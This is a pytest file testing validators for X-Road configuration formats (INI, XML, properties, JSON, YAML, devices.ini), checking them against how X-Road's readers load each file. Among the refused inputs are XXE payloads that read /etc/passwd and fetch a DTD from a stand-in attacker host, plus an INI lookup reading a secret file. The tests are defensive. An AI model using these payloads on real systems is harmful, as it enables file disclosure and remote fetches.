"""Tests for syncagent.xroad.formats: the pure format rules (ini, XML, properties, JSON)."""

from __future__ import annotations

import pytest
from support.samples import (
    DB_PROPERTIES,
    DEVICES_INI,
    GOOD_TREE,
    JETTY_XML,
    KEYCONF_XML,
    LOCAL_INI,
    LOGBACK_PROPERTIES,
    LOGBACK_XML,
    PROXY_INI,
)

from syncagent.errors import Problem
from syncagent.xroad.formats import (
    IniEntry,
    Rule,
    parse_ini,
    parse_properties,
    validate_devices,
    validate_ini,
    validate_json,
    validate_keyconf,
    validate_properties,
    validate_xml,
    validate_yaml_xroad7,
    validate_yaml_xroad8,
)


@pytest.mark.parametrize(
    ("check", "data"),
    [
        (validate_ini, LOCAL_INI),
        (validate_ini, PROXY_INI),
        (validate_ini, DEVICES_INI),
        (validate_ini, b""),
        (validate_ini, b"[node]\ntype = slave\n"),
        (validate_xml, KEYCONF_XML),
        (validate_keyconf, KEYCONF_XML),
        (validate_xml, LOGBACK_XML),
        (validate_xml, JETTY_XML),
        (validate_properties, DB_PROPERTIES),
        (validate_properties, LOGBACK_PROPERTIES),
        (validate_json, GOOD_TREE["metadata.json"]),
    ],
)
def test_good_content_passes(check: Rule, data: bytes) -> None:
    assert check("f", data) is None


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<x>&e;</x>',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><x/>',
        b"<!DOCTYPE x [<!ELEMENT x ANY>]><x/>",
        b"<x>&undeclared;</x>",
        b"",
        b"<a>\xff</a>",
    ],
)
def test_xml_with_dtd_subset_entities_or_garbage_is_refused(data: bytes) -> None:
    problem = validate_xml("x.xml", data)
    assert problem is not None and problem.path == "x.xml" and problem.message


@pytest.mark.parametrize(
    "root",
    [
        b"<keyConf/>",  # no namespace
        b'<keyConf xmlns="urn:other"/>',
        b'<x:keyconf xmlns:x="http://x-road.eu/xsd/xroad.xsd"/>',  # case matters
        b'<x:device xmlns:x="http://x-road.eu/xsd/xroad.xsd"/>',
    ],
)
def test_keyconf_with_a_root_the_signer_does_not_know_is_refused(root: bytes) -> None:
    problem = validate_keyconf("signer/keyconf.xml", root)
    assert problem is not None and "root element is" in problem.message
    assert validate_xml("signer/keyconf.xml", root) is None  # well-formed all the same


def test_keyconf_root_may_use_any_prefix_or_the_default_namespace() -> None:
    for root in (
        b'<ns3:keyConf xmlns:ns3="http://x-road.eu/xsd/xroad.xsd"/>',
        b'<keyConf xmlns="http://x-road.eu/xsd/xroad.xsd"/>',
    ):
        assert validate_keyconf("signer/keyconf.xml", root) is None


# --------------------------------------------------------------------------- INI details


def test_ini_accepts_repeated_keys_sections_and_percent() -> None:
    data = b"[proxy]\na=1\na=2\nfmt=%d{yyyy} ${X} %%\n[signer]\nk=v\n[proxy]\nb : 3\n"
    assert validate_ini("conf.d/local.ini", data) is None


def test_ini_accepts_backslash_continuation() -> None:
    assert (
        validate_ini("conf.d/local.ini", b"[proxy]\nclient-tls-ciphers=A,\\\n  B,\\\n  C\n") is None
    )


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"[proxy]\n[]\n", "line 2: empty [section] name (X-Road fails on any key in it)"),
        (b"[proxy] trailing\n", "line 1: malformed [section] header"),
    ],
)
def test_ini_rejections(data: bytes, message: str) -> None:
    assert validate_ini("conf.d/local.ini", data) == Problem("conf.d/local.ini", message)


def test_ini_messages_do_not_quote_content() -> None:
    data = LOCAL_INI + b"[messagelog-keystore-password somepassword\n"
    problem = validate_ini("conf.d/local.ini", data)
    assert problem is not None
    assert "somepassword" not in str(problem)


# --------------------------------------------------------------------------- properties


def test_properties_forms_accepted() -> None:
    data = (
        b"# comment\n! bang comment\na=1\nb = 2\nc: 3\nd 4\n"
        b"long = one, \\\n    two\n\xe9t\xe9=latin-1\n[database-properties]\n"
    )
    assert validate_properties("db.properties", data) is None


def test_properties_java_loads_empty_keys_nul_bytes_and_escaped_backslashes() -> None:
    for data in (b"a=1\n=no key\n", b"a=1\n  : no key\n", b"a=1\nb=\x00\n", b"p=C:\\\\u\n"):
        assert validate_properties("db.properties", data) is None, data


def test_ini_as_commons_configuration_reads_it() -> None:
    """Keys before any section, lines without a separator and empty keys all load."""
    data = b"top=1\n[proxy]\nflag\n= value\n"
    assert parse_ini(data) == [
        IniEntry("", "top", "1"),
        IniEntry("proxy", "flag", ""),
        IniEntry("proxy", " ", "value"),
    ]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"a=1\nb=\\u12\n", "line 2: malformed \\uxxxx escape"),
        (b"a=1\nb=\\uZZZZ\n", "line 2: malformed \\uxxxx escape"),
        (b"a=\\\n  \\u00e\n", "line 1: malformed \\uxxxx escape"),
    ],
)
def test_properties_rejections(data: bytes, message: str) -> None:
    assert validate_properties("db.properties", data) == Problem("db.properties", message)


# --------------------------------------------------------------------------- JSON


@pytest.mark.parametrize("data", [b"{", b"", b'{"a": 1} x', b'"\xff"'])
def test_json_rejections(data: bytes) -> None:
    problem = validate_json("metadata.json", data)
    assert problem is not None and problem.path == "metadata.json" and problem.message


# --------------------------------------------------------------------------- as X-Road derives
# Facts pinned against the real readers in tests/oracle (test_readers.py, test_differential.py).


def test_parse_ini_derives_entries_as_commons_configuration_does() -> None:
    data = (
        b'early = 1\n[s]\nk = first\nk = second\na.b = dotted\nq = "x # y" # c\n'
        b"spaced = one \\\n  two\nglued = one\\\nnext\n[t]\nm = ${s.k}/${early}\n"
        b"[s]\nn = ${k:-none} $${k}\n"
    )
    assert parse_ini(data) == [
        IniEntry("", "early", "1"),
        IniEntry("s", "k", "first"),
        IniEntry("s", "a..b", "dotted"),
        IniEntry("s", "q", "x # y"),
        IniEntry("s", "spaced", "one\ntwo"),
        IniEntry("s", "glued", "one\\"),
        IniEntry("s", "next", ""),
        IniEntry("s", "n", "first first"),  # "$${k}" escapes once, the second pass resolves it
        IniEntry("t", "m", "first/1"),
    ]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"[s]\na = ${a}\n", "line 2: interpolation loops: X-Road fails to start"),
        (b"[s]\na = ${b}\nb = ${a}\n", "line 2: interpolation loops: X-Road fails to start"),
        (b"[s]\nk(1) = x\n", "line 2: key X-Road reads no value for: it fails to start"),
        (b"[s]\na[@x] = 1\n", "line 2: key X-Road reads no value for: it fails to start"),
        (b"[s]\nk = caf\xe9\n", "line 2: not valid UTF-8"),
    ],
)
def test_ini_refused_where_x_road_fails(data: bytes, message: str) -> None:
    assert validate_ini("conf.d/local.ini", data) == Problem("conf.d/local.ini", message)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"[proxy\nk = v\n", "line 1: malformed [section] header"),
        (b"[a]\nx = 1\n[b] ; why\ny = 2\n", "line 3: malformed [section] header"),
        (b"[proxy] trailing\nk = v\n", "line 1: malformed [section] header"),
        (
            b"\xef\xbb\xbf[s]\nk = v\n",
            "line 1: UTF-8 byte order mark: X-Road would read the first [section] as a key",
        ),
        (b"[]\n[s]\nk = v\n", "line 1: empty [section] name (X-Road fails on any key in it)"),
        (
            b"[s]\nk = ${file:UTF-8:/etc/xroad/secret}\n",
            "line 2: ${file:...} lookup refused (resolved on the secondary)",
        ),
        (
            b"[s]\nk = $${date:yyyy}\n",
            "line 2: ${date:...} lookup refused (resolved on the secondary)",
        ),
    ],
)
def test_ini_deliberately_stricter_than_x_road(data: bytes, message: str) -> None:
    """X-Road loads each of these, but not as written (docs/readers.md: deliberately stricter)."""
    assert validate_ini("conf.d/local.ini", data) == Problem("conf.d/local.ini", message)


def test_ini_env_and_sys_lookups_load_and_stay_as_written() -> None:
    data = b"[s]\na = ${env:XROAD_SOMETHING}\nb = ${sys:user.home}\n"
    assert [e.value for e in parse_ini(data)] == ["${env:XROAD_SOMETHING}", "${sys:user.home}"]


def test_devices_ini_reads_lists_and_keys_without_value_as_absent() -> None:
    data = b"[hsm]\nlibrary = /usr/lib/p.so\nslot_ids = 1, 2,3\nk(1) = x\n"
    assert parse_ini(data, list_delimiter=",") == [
        IniEntry("hsm", "library", "/usr/lib/p.so"),
        IniEntry("hsm", "slot_ids", "1"),
    ]
    assert validate_devices("devices.ini", data) is None


def test_parse_properties_as_java_util_properties() -> None:
    data = (
        b"url = jdbc:postgresql://db:5432/\\\n    serverconf\n# c\n  ! bang\n"
        b"k\\u00e4y = caf\\u00e9\n"
        b"a=1\na=2\nspace v\ncolon:v\nt = v   \nlatin = caf\xe9\ndangling = v\\"
    )
    assert parse_properties(data) == [
        ("url", "jdbc:postgresql://db:5432/serverconf"),
        ("käy", "café"),
        ("a", "2"),
        ("space", "v"),
        ("colon", "v"),
        ("t", "v   "),
        ("latin", "café"),
        ("dangling", "v"),
    ]


# --------------------------------------------------------------------------- YAML per reader

ALIASES_51 = ("base: &a [1]\nl: [" + ", ".join(["*a"] * 51) + "]\n").encode()
ALIASES_50 = ("base: &a [1]\nl: [" + ", ".join(["*a"] * 50) + "]\n").encode()


@pytest.mark.parametrize(
    ("data", "xroad7", "xroad8"),
    [
        (ALIASES_50, True, True),
        (ALIASES_51, False, False),
        (b"a: 1\n---\nb: 2\n", False, True),
        (b"a: 1\na: 2\n", True, False),
        (b"a: b\tc\nt: 2024-13-45\n? {k: v}\n: mapping key\n", True, True),
        (b"a: !!float 1\nb: !!int 0x1F\n", True, True),
        (b"a: !!int x\n", False, False),
        (b"a: !!binary '!!'\n", False, False),
        (b"a: !foo x\n", False, False),
        (b"a: &a [*a]\n", False, False),
        (b"a: " + b"[" * 51 + b"]" * 51 + b"\n", False, False),
        (b"a: &x 1\nb: &x 2\nc: *x\n", True, True),
        (b"&'Test CA':\n  k: v\nb: *'Test\n", True, True),
        (b"a: &x.y 1\n", False, False),
        (b"=\n", True, True),
        (b"a: =\n", True, True),
        (b'a: "\\/"\n', False, False),
        (b"a: !!timestamp 2001-1-4\n", True, True),
        (b"a: !!str [x]\n", False, False),
        (b"a: !!omap [a]\n", False, False),
        (b"a: !!pairs [a: 1, a: 2]\n", True, True),
        (b"a:\n  <<: !!seq {k: 1}\n", True, True),
        (b"a: &x !!seq {k: 1}\nb: {<<: *x}\n", False, False),
        (b'a.b: !!set [a]\n"a.b": 1\n', True, False),
        (b"a: 1\na: !!set [a]\n", False, False),
        (b"a:\n\tb: 1\n", False, False),
        ("a: 1\n".encode("utf-16"), True, True),
        ("a: 1\n".encode("utf-16-le"), False, False),
    ],
)
def test_yaml_as_x_road_7_and_8_read_it(data: bytes, xroad7: bool, xroad8: bool) -> None:
    assert (validate_yaml_xroad7("conf.d/acme.yml", data) is None) is xroad7
    assert (validate_yaml_xroad8("conf.d/local.yaml", data) is None) is xroad8


def test_yaml_messages_do_not_quote_content() -> None:
    problem = validate_yaml_xroad8("conf.d/local.yaml", b"password: s3cret\npassword: s3cret\n")
    assert problem is not None and "s3cret" not in str(problem)
    assert problem.message == "line 2: duplicate key (X-Road 8's admin service refuses it)"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            b"library = /x.so\n[hsm]\nlibrary = /p.so\n",
            "line 1: a key outside any module section (the signer ignores it)",
        ),
        (
            b"[hsm]\nlibrary = /p.so\nenabled = maybe\n",
            "line 1: enabled is not a boolean (the signer skips this module)",
        ),
        (
            b"[softToken]\nenabled = \n",
            "line 1: enabled is not a boolean (the signer skips this module)",
        ),
    ],
)
def test_devices_ini_refused_where_the_signer_skips_a_module(data: bytes, message: str) -> None:
    """Deliberately stricter: the signer logs these and carries on without the module."""
    assert validate_devices("devices.ini", data) == Problem("devices.ini", message)


def test_devices_ini_booleans_as_commons_lang_reads_them() -> None:
    for value in (b"TRUE", b"no", b"oN", b"y", b"F", b"1", b"0", b"yes, maybe"):
        assert validate_devices("devices.ini", b"[hsm]\nread_only = " + value + b"\n") is None
    assert validate_devices("devices.ini", b"[SOFTTOKEN]\nread_only = maybe\n") is None
